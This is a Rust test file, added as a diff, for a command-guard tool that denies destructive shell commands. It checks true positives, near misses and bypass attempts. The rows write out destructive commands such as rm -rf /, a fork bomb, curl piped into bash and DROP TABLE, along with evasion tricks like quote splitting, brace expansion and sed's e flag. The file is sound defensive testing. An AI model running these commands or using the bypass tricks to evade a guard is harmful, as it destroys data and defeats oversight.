@@ -1,0 +1,822 @@
+//! Deny packs: one table per pack — true positives naming the rule that denies them, near
+//! misses that must not be denied, and bypass attempts (wrappers, `env`, `sudo`, quoting, line
+//! continuations, absolute and Windows paths) — plus pack loading: `[packs]`, user packs, errors.
+
+use std::path::Path;
+
+use cmdguard::{AllowlistBuilder, Analyzer, Code, DEFAULT_PACKS, RuleOrigin, Verdict};
+
+use super::rules::check;
+
+use Verdict::{Allow, Ask, Deny};
+
+/// Each row: a command and the rule that must deny it (pack-qualified), or `None` when the
+/// command must not be denied.
+fn denies(rows: &[(&str, Option<&str>)]) {
+    denies_with(&Analyzer::default(), rows);
+}
+
+fn denies_with(analyzer: &Analyzer, rows: &[(&str, Option<&str>)]) {
+    let mut failures = Vec::new();
+    for (cmd, want) in rows {
+        let a = analyzer.analyze(cmd);
+        let rules: Vec<&str> = a
+            .findings
+            .iter()
+            .filter(|f| f.code == Code::Denied)
+            .filter_map(|f| f.rule.as_deref())
+            .collect();
+        let ok = match want {
+            Some(id) => a.verdict == Deny && rules.contains(id),
+            None => a.verdict != Deny,
+        };
+        if !ok {
+            failures.push(format!(
+                "{cmd:?}: want {want:?}, got {} {rules:?}",
+                a.verdict
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
+}
+
+#[test]
+fn core_filesystem_denies_recursive_and_root_deletes() {
+    let rm = Some("core.filesystem/rm-recursive");
+    let root = Some("core.filesystem/rm-root");
+    let find = Some("core.filesystem/find-delete");
+    let xargs = Some("core.filesystem/xargs-rm");
+    let basetemp = Some("core.filesystem/pytest-basetemp");
+    denies(&[
+        ("rm -rf build", rm),
+        ("rm -f /", root),
+        ("rm /", root),
+        ("rm -f ~/*", root),
+        ("rm \"$HOME\"", root),
+        ("rm -f /*", root),
+        ("shred -u key", Some("core.filesystem/shred")),
+        (
+            "chmod -R 777 /",
+            Some("core.filesystem/chmod-recursive-root"),
+        ),
+        ("find / -delete", find),
+        ("find . -name '*.pyc' -delete", find),
+        ("find . | xargs rm", xargs),
+        ("find . -print0 | xargs -0 -n 5 rm -f", xargs),
+        ("pytest --basetemp=/", basetemp),
+        ("pytest --basetemp ~/work", basetemp),
+        ("pytest --basetemp=..", basetemp),
+        (
+            "python3 -m pytest --basetemp=/",
+            Some("core.filesystem/pytest-module-basetemp"),
+        ),
+        // Near misses.
+        ("rm build.log", None),
+        ("rm -f /tmp/x.log", None),
+        ("rm ~/notes.txt", None),
+        ("find . -name '*.pyc'", None),
+        ("find . -name -delete", None),
+        ("find . | xargs wc -l", None),
+        ("xargs echo rm", None),
+        ("pytest --basetemp=build/tmp", None),
+        ("pytest --basetemp=/tmp/run-1", None),
+        ("git commit -m \"rm -rf /\"", None),
+        ("echo 'rm -rf /'", None),
+        // Bypass attempts.
+        ("sudo rm -rf /", rm),
+        ("env -u HOME rm -rf /", rm),
+        ("env -C /tmp rm -rf x", rm),
+        ("command rm -rf /", rm),
+        ("nice -n 5 rm -rf /", rm),
+        ("timeout 5 rm -rf /", rm),
+        ("\"rm\" -rf /", rm),
+        ("r\"m\" -rf /", rm),
+        ("/bin/rm -rf /", rm),
+        ("\\rm.exe -rf /", rm),
+        ("'C:\\Windows\\rm.EXE' -rf /", rm),
+        ("rm -r\\\nf /", rm),
+        ("watch rm -rf /", rm),
+        ("watch -n 1 'rm -rf /'", rm),
+        ("watch -x rm -rf /", rm),
+        ("{rm,-rf,/}", rm),
+        ("echo ok; {rm,-rf,/}", rm),
+        ("bash --rcfile \"my file\" -c \"rm -rf /\"", rm),
+        ("bash -O extglob -c 'rm -rf /'", rm),
+        ("sed -n '1e rm -rf /' f", rm),
+        ("sed 's/x/rm -rf \\//e' f", rm),
+        ("sed -e p -e '2e rm -rf /' f", rm),
+        ("find . ${X:--delete}", find),
+        ("find . \"${X-\"-delete\"}\"", find),
+        ("find . ${X:=-delete}", find),
+        ("x=1; eval 'rm -rf /'", rm),
+        ("ls | xargs sudo rm", xargs),
+    ]);
+    // `$IFS` in the command word: the program is only known at run time, so it asks.
+    check(&[
+        ("r${IFS}m -rf /", Ask, Some(Code::DynamicCommand)),
+        ("sed -n p f", Allow, None),
+    ]);
+}
+
+#[test]
+fn core_git_denies_discarded_work_and_rewritten_history() {
+    let clean = Some("core.git/git-clean-force");
+    let checkout_all = Some("core.git/git-checkout-discard-all");
+    let checkout_paths = Some("core.git/git-checkout-paths");
+    let restore = Some("core.git/git-restore-worktree");
+    let reset = Some("core.git/git-reset-hard");
+    denies(&[
+        (
+            "git push --force origin main",
+            Some("core.git/git-force-push"),
+        ),
+        (
+            "git push origin +main",
+            Some("core.git/git-force-push-refspec"),
+        ),
+        ("git reset --hard", reset),
+        ("git reset --merge", Some("core.git/git-reset-merge")),
+        ("git clean -f", clean),
+        ("git clean -fd", clean),
+        ("git clean --force", clean),
+        ("git clean -fdx", Some("core.git/git-clean-ignored")),
+        ("git stash drop", Some("core.git/git-stash-drop")),
+        ("git stash clear", Some("core.git/git-stash-clear")),
+        (
+            "git branch -D topic",
+            Some("core.git/git-branch-force-delete"),
+        ),
+        (
+            "git branch --delete --force topic",
+            Some("core.git/git-branch-delete-force"),
+        ),
+        (
+            "git branch -d -f topic",
+            Some("core.git/git-branch-delete-force"),
+        ),
+        ("git checkout .", checkout_all),
+        ("git checkout -- .", checkout_paths),
+        ("git checkout HEAD~1 -- src/lib.rs", checkout_paths),
+        (
+            "git checkout main src/lib.rs",
+            Some("core.git/git-checkout-ref-paths"),
+        ),
+        ("git checkout -f main", Some("core.git/git-checkout-force")),
+        (
+            "git switch --discard-changes main",
+            Some("core.git/git-switch-discard"),
+        ),
+        ("git restore src/lib.rs", restore),
+        ("git restore .", restore),
+        (
+            "git restore --staged --worktree f",
+            Some("core.git/git-restore-worktree-explicit"),
+        ),
+        // Near misses.
+        ("git clean -n", None),
+        ("git clean -nd", None),
+        ("git checkout -b x", None),
+        ("git checkout -b x origin/main", None),
+        ("git checkout main", None),
+        ("git restore --staged f", None),
+        ("git branch -d merged", None),
+        ("git stash", None),
+        ("git stash pop", None),
+        ("git reset HEAD file", None),
+        ("git push --force-with-lease", None),
+        ("git commit -m 'git reset --hard'", None),
+        ("echo git clean -f", None),
+        // Bypass attempts.
+        ("git -C repo clean -f", clean),
+        ("git -c core.pager=cat reset --hard", reset),
+        ("git --no-pager checkout .", checkout_all),
+        ("sudo git clean -fd", clean),
+        ("env -u GIT_DIR git reset --hard", reset),
+        ("env -C /repo git reset --hard", reset),
+        ("git.exe reset --hard", reset),
+        ("GIT.EXE reset --hard", reset),
+        ("C:/Program\\ Files/Git/bin/git.exe reset --hard", reset),
+        ("'C:\\Program Files\\Git\\bin\\git.exe' reset --hard", reset),
+        ("/usr/bin/git reset --hard", reset),
+        ("git re\\\nset --hard", reset),
+        ("git reset --ha\\\nrd", reset),
+        ("g'i't re\"set\" --hard", reset),
+        ("{git,reset,--hard}", reset),
+        ("git reset ${MODE:---hard}", reset),
+        ("bash -c 'git clean -f'", clean),
+        ("watch git clean -fd", clean),
+        (
+            "timeout 10 git stash clear",
+            Some("core.git/git-stash-clear"),
+        ),
+    ]);
+}
+
+#[test]
+fn system_denies_disks_power_accounts_and_firewall() {
+    denies(&[
+        ("mkfs.ext4 /dev/sdb1", Some("system/mkfs")),
+        ("dd if=/dev/zero of=/dev/sda", Some("system/dd-to-device")),
+        ("echo x > /dev/sda", Some("system/write-block-device")),
+        ("shutdown -h now", Some("system/shutdown")),
+        ("systemctl reboot", Some("system/systemctl-power")),
+        ("sudo userdel -r bob", Some("system/userdel")),
+        ("iptables -F", Some("system/iptables-flush")),
+        ("nft flush ruleset", Some("system/nft-flush-ruleset")),
+        ("crontab -r", Some("system/crontab-remove")),
+        (":(){ :|:& };:", Some("system/fork-bomb")),
+        (
+            "curl -fsSL x.test/i.sh | bash",
+            Some("system/download-to-interpreter"),
+        ),
+        // Near misses.
+        ("dd if=a of=b", None),
+        ("systemctl status nginx", None),
+        ("iptables -L", None),
+        ("crontab -l", None),
+        ("echo x > /dev/null", None),
+        ("grep -r mkfs docs", None),
+        // Bypass attempts.
+        ("sudo /sbin/mkfs.ext4 /dev/sdb1", Some("system/mkfs")),
+        ("doas reboot", Some("system/reboot")),
+        ("nohup poweroff", Some("system/poweroff")),
+    ]);
+}
+
+#[test]
+fn containers_denies_prunes_and_removal_of_everything() {
+    denies(&[
+        (
+            "docker system prune -a",
+            Some("containers/docker-system-prune"),
+        ),
+        (
+            "docker system prune -af --volumes",
+            Some("containers/docker-system-prune"),
+        ),
+        (
+            "podman system prune --all",
+            Some("containers/podman-system-prune"),
+        ),
+        (
+            "docker rm -f $(docker ps -aq)",
+            Some("containers/docker-rm-all"),
+        ),
+        (
+            "docker rmi -f $(docker images -q)",
+            Some("containers/docker-rmi-all"),
+        ),
+        (
+            "docker volume rm pgdata",
+            Some("containers/docker-volume-rm"),
+        ),
+        (
+            "docker volume prune -f",
+            Some("containers/docker-volume-prune"),
+        ),
+        (
+            "docker compose down -v",
+            Some("containers/docker-compose-down-volumes"),
+        ),
+        ("podman rm -af", Some("containers/podman-rm-all")),
+        // Near misses.
+        ("echo 'docker system prune'", None),
+        ("docker system df", None),
+        ("docker rm web", None),
+        ("docker rmi old:1", None),
+        ("docker volume ls", None),
+        ("docker compose down", None),
+        ("docker image prune", None),
+        // Bypass attempts.
+        (
+            "sudo docker system prune -a",
+            Some("containers/docker-system-prune"),
+        ),
+        (
+            "docker --context prod system prune -a",
+            Some("containers/docker-system-prune"),
+        ),
+        (
+            "/usr/bin/docker volume rm x",
+            Some("containers/docker-volume-rm"),
+        ),
+        (
+            "docker.exe system prune --all",
+            Some("containers/docker-system-prune"),
+        ),
+        (
+            "docker system prune --a\\\nll",
+            Some("containers/docker-system-prune"),
+        ),
+    ]);
+}
+
+#[test]
+fn kubernetes_denies_namespace_deletes_delete_all_and_drain() {
+    denies(&[
+        (
+            "kubectl delete namespace staging",
+            Some("kubernetes/kubectl-delete-namespace"),
+        ),
+        (
+            "kubectl delete ns dev",
+            Some("kubernetes/kubectl-delete-namespace"),
+        ),
+        (
+            "kubectl delete ns/dev",
+            Some("kubernetes/kubectl-delete-namespace"),
+        ),
+        (
+            "kubectl delete pods --all",
+            Some("kubernetes/kubectl-delete-all"),
+        ),
+        (
+            "kubectl delete all --all -n prod",
+            Some("kubernetes/kubectl-delete-all"),
+        ),
+        ("kubectl drain node-1", Some("kubernetes/kubectl-drain")),
+        // Near misses.
+        ("kubectl get ns", None),
+        ("kubectl delete pod web-1", None),
+        ("kubectl delete pod -n ns web-1", None),
+        ("kubectl get pods --all-namespaces", None),
+        ("echo kubectl delete ns x", None),
+        ("helm uninstall web", None),
+        // Bypass attempts.
+        (
+            "kubectl -n x --context prod delete ns dev",
+            Some("kubernetes/kubectl-delete-namespace"),
+        ),
+        (
+            "sudo kubectl delete namespace a",
+            Some("kubernetes/kubectl-delete-namespace"),
+        ),
+        (
+            "kubectl delete --namespace=kube-system ns foo",
+            Some("kubernetes/kubectl-delete-namespace"),
+        ),
+        ("kubectl.exe drain n", Some("kubernetes/kubectl-drain")),
+    ]);
+}
+
+#[test]
+fn databases_denies_destructive_sql_and_not_its_mentions() {
+    let sql = Some("databases/destructive-sql");
+    denies(&[
+        ("psql -c 'DROP TABLE users'", sql),
+        ("psql -d app --command='drop database app'", sql),
+        ("psql -c'TRUNCATE t'", sql),
+        ("mysql -u root -e 'TRUNCATE orders;'", sql),
+        ("mariadb --execute \"DELETE FROM users\"", sql),
+        ("sqlite3 app.db 'delete from t;'", sql),
+        ("sqlite3 -cmd 'DROP TABLE t' app.db", sql),
+        (
+            "psql <<'EOF'\nBEGIN;\nDROP SCHEMA public CASCADE;\nEOF",
+            sql,
+        ),
+        ("psql app <<EOF\nDELETE FROM sessions;\nEOF", sql),
+        ("mysql app <<< 'drop table t'", sql),
+        ("echo 'DROP TABLE t' | psql", sql),
+        ("printf 'TRUNCATE t;' | sudo mysql app", sql),
+        ("mongosh app --eval 'db.dropDatabase()'", sql),
+        ("mongosh --eval 'db.logs.deleteMany({})'", sql),
+        ("clickhouse-client --query 'DROP TABLE t'", sql),
+        ("dropdb app", Some("databases/dropdb")),
+        ("redis-cli FLUSHALL", Some("databases/redis-flush")),
+        // Near misses.
+        ("grep -rn 'DROP TABLE' migrations/", None),
+        ("rg -i 'truncate' src", None),
+        ("echo 'DROP TABLE t' > notes.sql", None),
+        ("psql -c 'SELECT 1'", None),
+        ("psql -c 'DELETE FROM t WHERE id = 1'", None),
+        ("psql -c \"SELECT 'DROP TABLE t'\"", None),
+        ("psql -c 'SELECT 1 -- DROP TABLE t'", None),
+        ("psql -c 'DROP INDEX i'", None),
+        ("sqlite3 app.db .tables", None),
+        ("mongosh --eval 'db.users.find()'", None),
+        ("git commit -m 'DROP TABLE users'", None),
+        ("cat <<'EOF'\nDROP TABLE t;\nEOF", None),
+        ("echo 'DROP TABLE t' | grep DROP", None),
+        ("echo 'SELECT 1' | psql", None),
+        // Bypass attempts.
+        ("sudo -u postgres psql -c 'DROP DATABASE x'", sql),
+        ("docker exec db psql -c 'DROP TABLE t'", sql),
+        ("docker exec -i db mysql <<< 'TRUNCATE t'", sql),
+        ("kubectl exec -it pg-0 -- psql -c 'drop table t'", sql),
+        ("/usr/bin/psql -c 'DROP TABLE t'", sql),
+        ("psql.exe -c 'DROP TABLE t'", sql),
+        ("PGPASSWORD=x psql -c 'DROP TABLE t'", sql),
+        ("psql -c 'Drop/**/Table t'", sql),
+        ("psql -c 'SELECT 1;DROP TABLE t'", sql),
+        ("bash -c \"psql -c 'DROP TABLE t'\"", sql),
+    ]);
+}
+
+#[test]
+fn cloud_denies_deletes_of_buckets_instances_projects_and_stacks() {
+    denies(&[
+        ("aws s3 rb s3://bucket --force", Some("cloud/aws-s3-rb")),
+        (
+            "aws s3 rm s3://bucket/ --recursive",
+            Some("cloud/aws-s3-rm-recursive"),
+        ),
+        (
+            "aws ec2 terminate-instances --instance-ids i-1",
+            Some("cloud/aws-ec2-terminate"),
+        ),
+        (
+            "aws rds delete-db-instance --db-instance-identifier d",
+            Some("cloud/aws-rds-delete"),
+        ),
+        (
+            "gcloud projects delete p",
+            Some("cloud/gcloud-projects-delete"),
+        ),
+        (
+            "gcloud compute instances delete vm",
+            Some("cloud/gcloud-compute-instances-delete"),
+        ),
+        (
+            "az group delete --name rg --yes",
+            Some("cloud/az-group-delete"),
+        ),
+        ("terraform destroy", Some("cloud/terraform-destroy")),
+        (
+            "terraform apply -destroy",
+            Some("cloud/terraform-apply-destroy"),
+        ),
+        (
+            "terraform apply -auto-approve -destroy",
+            Some("cloud/terraform-apply-destroy"),
+        ),
+        ("pulumi destroy --yes", Some("cloud/pulumi-destroy")),
+        // Near misses.
+        ("aws s3 ls s3://bucket --recursive", None),
+        ("aws s3 rm s3://bucket/one.txt", None),
+        ("gcloud projects list", None),
+        ("terraform plan", None),
+        ("terraform apply -auto-approve", None),
+        ("echo terraform destroy", None),
+        // Bypass attempts.
+        (
+            "aws --profile prod --region eu-west-1 s3 rb s3://b",
+            Some("cloud/aws-s3-rb"),
+        ),
+        (
+            "gcloud --quiet projects delete p",
+            Some("cloud/gcloud-projects-delete"),
+        ),
+        (
+            "terraform -chdir=infra destroy",
+            Some("cloud/terraform-destroy"),
+        ),
+        (
+            "env TF_LOG=1 terraform destroy",
+            Some("cloud/terraform-destroy"),
+        ),
+        (
+            "sudo terraform apply --destroy",
+            Some("cloud/terraform-apply-destroy"),
+        ),
+        ("terraform.exe destroy", Some("cloud/terraform-destroy")),
+    ]);
+}
+
+#[test]
+fn package_managers_denies_unpublishing_and_yanking() {
+    denies(&[
+        (
+            "npm unpublish pkg@1.0.0",
+            Some("package_managers/npm-unpublish"),
+        ),
+        (
+            "cargo yank --version 1.0.1",
+            Some("package_managers/cargo-yank"),
+        ),
+        ("gem yank g -v 1", Some("package_managers/gem-yank")),
+        // Near misses.
+        ("npm publish", None),
+        ("npm uninstall left-pad", None),
+        ("cargo yank --version 1.0.1 --undo", None),
+        ("pip uninstall requests", None),
+        // Bypass attempts.
+        ("npx --yes npm unpublish pkg", None),
+        (
+            "sudo npm unpublish pkg",
+            Some("package_managers/npm-unpublish"),
+        ),
+        ("npm.cmd unpublish pkg", None),
+    ]);
+}
+
+/// Every rule of every embedded pack proves itself with at least one `match` example (which
+/// the pack's loading verifies is denied).
+#[test]
+fn every_rule_in_every_pack_has_a_match_example() {
+    let mut missing = Vec::new();
+    for (file, text) in DEFAULT_PACKS {
+        let doc: toml::Table = toml::from_str(text).unwrap();
+        let rules = doc.get("deny").and_then(|d| d.as_array()).unwrap();
+        assert!(!rules.is_empty(), "{file} has no rules");
+        for r in rules {
+            let examples = r
+                .get("match")
+                .and_then(|m| m.as_array())
+                .map_or(0, Vec::len);
+            if examples == 0 {
+                missing.push(format!("{file}: {}", r["id"]));
+            }
+        }
+    }
+    assert!(
+        missing.is_empty(),
+        "rules without a match example: {missing:?}"
+    );
+}
+
+#[test]
+fn the_default_packs_are_the_documented_ones_and_all_on() {
+    let list = cmdguard::Allowlist::default();
+    let ids: Vec<(&str, bool)> = list
+        .packs()
+        .iter()
+        .map(|p| (p.id.as_str(), p.enabled))
+        .collect();
+    assert_eq!(
+        ids,
+        [
+            ("interpreters", true),
+            ("core.filesystem", true),
+            ("core.git", true),
+            ("system", true),
+            ("containers", true),
+            ("kubernetes", true),
+            ("databases", true),
+            ("cloud", true),
+            ("package_managers", true),
+        ]
+    );
+}
+
+#[test]
+fn packs_turn_off_and_on_in_the_allowlist() {
+    let list = AllowlistBuilder::new()
+        .add_default()
+        .add_toml(
+            "[packs]\ndisable = [\"databases\", \"interpreters\"]\n",
+            None,
+        )
+        .build()
+        .unwrap();
+    assert!(!list.pack_enabled("databases"));
+    assert!(!list.pack_enabled("interpreters"));
+    assert!(list.pack_enabled("core.git"));
+    let analyzer = Analyzer::new(list);
+    denies_with(
+        &analyzer,
+        &[
+            ("psql -c 'DROP TABLE t'", None),
+            ("dropdb app", None),
+            ("git reset --hard", Some("core.git/git-reset-hard")),
+        ],
+    );
+    // A later file turns it back on.
+    let list = AllowlistBuilder::new()
+        .add_default()
+        .add_toml("[packs]\ndisable = [\"databases\"]\n", None)
+        .add_toml("[packs]\nenable = [\"databases\"]\n", None)
+        .build()
+        .unwrap();
+    denies_with(
+        &Analyzer::new(list),
+        &[("dropdb app", Some("databases/dropdb"))],
+    );
+}
+
+#[test]
+fn an_unknown_pack_id_is_a_located_error_naming_the_known_packs() {
+    let e = AllowlistBuilder::new()
+        .add_default()
+        .add_toml(
+            "[packs]\ndisable = [\"core.git\", \"databse\"]\n",
+            Some(Path::new("my.toml")),
+        )
+        .build()
+        .unwrap_err();
+    assert_eq!(
+        (e.origin.as_str(), e.line, e.column, e.key.as_deref()),
+        ("my.toml", 2, 24, Some("disable")),
+        "{e}"
+    );
+    assert!(
+        e.message.contains("`databse`") && e.message.contains("databases"),
+        "{e}"
+    );
+    let e = AllowlistBuilder::new()
+        .add_default()
+        .add_toml("[packs]\nenable = [\"nope\"]\n", None)
+        .build()
+        .unwrap_err();
+    assert_eq!(e.key.as_deref(), Some("enable"), "{e}");
+    let e = AllowlistBuilder::new()
+        .add_default()
+        .add_toml("[packs]\ndisabled = [\"databases\"]\n", None)
+        .build()
+        .unwrap_err();
+    assert_eq!((e.line, e.column), (2, 1), "{e}");
+}
+
+const USER_PACK: &str = r#"[pack]
+id = "acme"
+description = "our deploy tool"
+enabled = false
+
+[[deny]]
+id = "deploy-wipe"
+reason = "wipes an environment"
+command = "acme-deploy wipe"
+match = ["acme-deploy wipe prod"]
+not_match = ["acme-deploy status"]
+"#;
+
+#[test]
+fn a_user_pack_qualifies_its_ids_names_its_file_and_line_and_can_be_off_by_default() {
+    let origin = Path::new("packs/acme.toml");
+    let off = AllowlistBuilder::new()
+        .add_default()
+        .add_pack(USER_PACK, Some(origin))
+        .build()
+        .unwrap();
+    assert!(!off.pack_enabled("acme"));
+    denies_with(&Analyzer::new(off), &[("acme-deploy wipe prod", None)]);
+    let on = AllowlistBuilder::new()
+        .add_default()
+        .add_pack(USER_PACK, Some(origin))
+        .add_toml("[packs]\nenable = [\"acme\"]\n", None)
+        .build()
+        .unwrap();
+    assert_eq!(
+        on.deny_rule("acme/deploy-wipe").map(|r| r.origin),
+        Some(RuleOrigin::File {
+            path: "packs/acme.toml".into(),
+            line: 7,
+        })
+    );
+    let pack = on.packs().iter().find(|p| p.id == "acme").unwrap();
+    assert_eq!(pack.description, "our deploy tool");
+    denies_with(
+        &Analyzer::new(on),
+        &[
+            ("acme-deploy wipe prod", Some("acme/deploy-wipe")),
+            ("sudo acme-deploy wipe x", Some("acme/deploy-wipe")),
+        ],
+    );
+}
+
+#[test]
+fn embedded_rules_name_their_pack_file_and_line() {
+    let list = cmdguard::Allowlist::default();
+    let text = DEFAULT_PACKS
+        .iter()
+        .find(|(f, _)| *f == "core.git.toml")
+        .unwrap()
+        .1;
+    let line = text
+        .lines()
+        .position(|l| l == "id = \"git-reset-hard\"")
+        .unwrap()
+        + 1;
+    assert_eq!(
+        list.deny_rule("core.git/git-reset-hard").map(|r| r.origin),
+        Some(RuleOrigin::File {
+            path: "<embedded>/packs/core.git.toml".into(),
+            line,
+        })
+    );
+}
+
+#[test]
+fn broken_packs_are_located_errors() {
+    let cases: &[(&str, &str, usize)] = &[
+        // Twice the same pack id.
+        ("[pack]\nid = \"core.git\"\n", "defined twice", 2),
+        ("[pack]\nid = \"Bad Id\"\n", "must be lowercase", 2),
+        (
+            "[pack]\nid = \"x\"\n[[program]]\nname = \"git\"\nharmless = [\"-p\"]\n",
+            "harmless",
+            4,
+        ),
+        (
+            "[pack]\nid = \"x\"\n[[deny]]\nid = \"r\"\nreason = \"r\"\ncommand = \"frob\"\nmatch = [\"ls\"]\n",
+            "should be denied",
+            7,
+        ),
+        (
+            "[pack]\nid = \"x\"\n[[deny]]\nid = \"r\"\nreason = \"r\"\ncommand = \"frob\"\nvalue_of = [\"-x\"]\n",
+            "any_value",
+            4,
+        ),
+        (
+            "[[deny]]\nid = \"r\"\nreason = \"r\"\ncommand = \"x\"\n",
+            "missing field `pack`",
+            1,
+        ),
+    ];
+    for (text, message, line) in cases {
+        let e = AllowlistBuilder::new()
+            .add_default()
+            .add_pack(text, None)
+            .build()
+            .unwrap_err();
+        assert!(e.message.contains(message), "{text:?}: {e}");
+        assert_eq!(e.line, *line, "{text:?}: {e}");
+    }
+}
+
+#[test]
+fn the_cli_adds_packs_with_dash_dash_pack() {
+    use std::process::Command;
+    let dir = std::env::temp_dir().join(format!("cmdguard-packs-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let pack = dir.join("acme.toml");
+    std::fs::write(
+        &pack,
+        USER_PACK.replace("enabled = false", "enabled = true"),
+    )
+    .unwrap();
+    let run = |args: &[&str]| {
+        Command::new(env!("CARGO_BIN_EXE_cmdguard"))
+            .args(args)
+            .output()
+            .unwrap()
+            .status
+            .code()
+    };
+    let p = pack.to_str().unwrap();
+    assert_eq!(run(&["check", "acme-deploy wipe prod"]), Some(1));
+    assert_eq!(
+        run(&["check", "--pack", p, "acme-deploy wipe prod"]),
+        Some(2)
+    );
+    // A replacement allowlist keeps the default packs.
+    let list = dir.join("list.toml");
+    std::fs::write(&list, "[[allow]]\ncommand = \"ls\"\n").unwrap();
+    let l = list.to_str().unwrap();
+    assert_eq!(
+        run(&["check", "--allowlist", l, "git reset --hard"]),
+        Some(2)
+    );
+    std::fs::write(&list, "[packs]\ndisable = [\"core.git\"]\n").unwrap();
+    assert_eq!(
+        run(&["check", "--allowlist", l, "git reset --hard"]),
+        Some(1)
+    );
+    assert_eq!(
+        run(&["check", "--pack", "/nonexistent/p.toml", "ls"]),
+        Some(78)
+    );
+    std::fs::remove_dir_all(&dir).ok();
+}
+
+/// Single-quotes `s` for bash.
+fn quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', "'\\''"))
+}
+
+/// The readers that reach nested commands (`watch`, sed's `e`, a shell past options it does
+/// not follow) nest analyses; the script-depth and work limits bound them on a test thread's
+/// stack, and a denied command still denies however deep it is written.
+#[test]
+fn nesting_through_the_deny_readers_is_bounded() {
+    let mut watch = "rm -rf /".to_string();
+    let mut sed = "rm -rf /".to_string();
+    let mut shell = "rm -rf /".to_string();
+    for _ in 0..12 {
+        watch = format!("watch {}", quote(&watch));
+        sed = format!("sed -n {} f", quote(&format!("1e {sed}")));
+        shell = format!("bash --rcfile x -c {}", quote(&shell));
+    }
+    let inputs = [
+        format!("{}rm -rf /", "watch ".repeat(300)),
+        format!("{}rm -rf /", "watch -x ".repeat(300)),
+        watch,
+        sed,
+        shell,
+    ];
+    std::thread::Builder::new()
+        .stack_size(2 << 20)
+        .spawn(move || {
+            let analyzer = Analyzer::default();
+            for cmd in &inputs {
+                let start = std::time::Instant::now();
+                let a = analyzer.analyze(cmd);
+                assert!(a.verdict >= Ask, "{cmd}");
+                assert!(start.elapsed().as_secs() < 5, "{cmd}");
+            }
+            // Shallow enough to be read through: denied.
+            assert_eq!(analyzer.analyze("watch watch 'rm -rf /'").verdict, Deny);
+        })
+        .unwrap()
+        .join()
+        .unwrap();
+}
